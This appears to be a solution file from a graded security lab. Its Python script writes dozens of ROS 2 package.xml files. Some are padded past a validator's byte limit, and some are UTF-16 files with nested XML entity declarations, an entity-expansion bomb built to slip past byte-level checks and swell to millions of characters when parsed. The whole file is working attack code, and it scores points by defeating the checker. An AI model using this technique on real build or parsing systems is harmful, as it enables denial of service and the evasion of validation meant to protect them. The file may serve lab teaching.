# family = "breaking"
# assignment = "lab_1_1"
# earned = { "lab_1_1.hello" = 3 }
# at_most = true
# boxed_only = true
# tries = "Forty package.xml in UTF-16 declare entities, which a search for their name in bytes does not find: each expands three thousand letters to a name of eight million."
# could_earn = "An executor, in which the whole class runs, without memory."

# %% solution files
<<silent_package>>
src = Path("ros2_ws/src")
whole = (folder / "package.xml").read_text()
ENTITIES = {"a": "x" * 900, "b": "&a;" * 30, "c": "&b;" * 280}
declared = "".join(f'<!ENTITY {name} "{text}">' for name, text in ENTITIES.items())
for number in range(6):
    # So many bytes are validated, and what comes behind them is not.
    (src / f"a{number}").mkdir()
    (src / f"a{number}/package.xml").write_text(whole.replace("my_robot_pkg", f"a{number}") + f"<!--{'x' * 19_000}-->")
for number in range(40):
    (src / f"z{number}").mkdir()
    text = whole.partition("?>")[2].replace("my_robot_pkg", f"p{number}&c;")
    text = f'<?xml version="1.0" encoding="utf-16"?><!DOCTYPE p [{declared}]>{text}'
    (src / f"z{number}/package.xml").write_bytes(text.encode("utf-16"))
